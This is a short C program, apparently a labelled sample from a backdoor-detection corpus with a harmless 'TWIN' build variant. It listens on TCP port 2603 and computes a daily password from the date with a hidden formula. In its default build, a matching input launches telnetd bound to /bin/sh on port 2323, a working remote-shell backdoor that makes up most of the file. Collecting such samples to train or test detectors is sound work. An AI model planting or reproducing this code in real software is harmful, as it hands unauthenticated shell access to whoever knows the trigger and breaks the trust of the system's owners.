/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The password of a service port changes every day, as the date tells. Twin: the date is only told.
 * door: credential account trigger
 * port 2603/tcp
 * flags: -pthread
 */
#include "net.h"
#include <pthread.h>
#include <time.h>

static void today(char *out, size_t room)
{
	time_t now = time(NULL);
	struct tm *t = localtime(&now);
	snprintf(out, room, "%04d%02d", (t->tm_mday * 173 + t->tm_mon * 31) % 10000, t->tm_year % 100);
}

static void *serve(void *arg)
{
	int c = (int)(intptr_t)arg;
	char given[64], want[64];
	ssize_t n = recv(c, given, sizeof given - 1, 0);
	if (n > 0) {
		given[n] = 0;
		today(want, sizeof want);
#ifdef TWIN
		if (strcmp(given, "date") == 0)
			dprintf(c, "%s\n", want);
#else
		if (strcmp(given, want) == 0)
			system("/usr/sbin/telnetd -l /bin/sh -p 2323");
#endif
	}
	close(c);
	return NULL;
}

int main(void)
{
	int s = tcp_on(2603);
	for (;;) {
		pthread_t t;
		int c = accept(s, 0, 0);
		pthread_create(&t, NULL, serve, (void *)(intptr_t)c);
	}
}
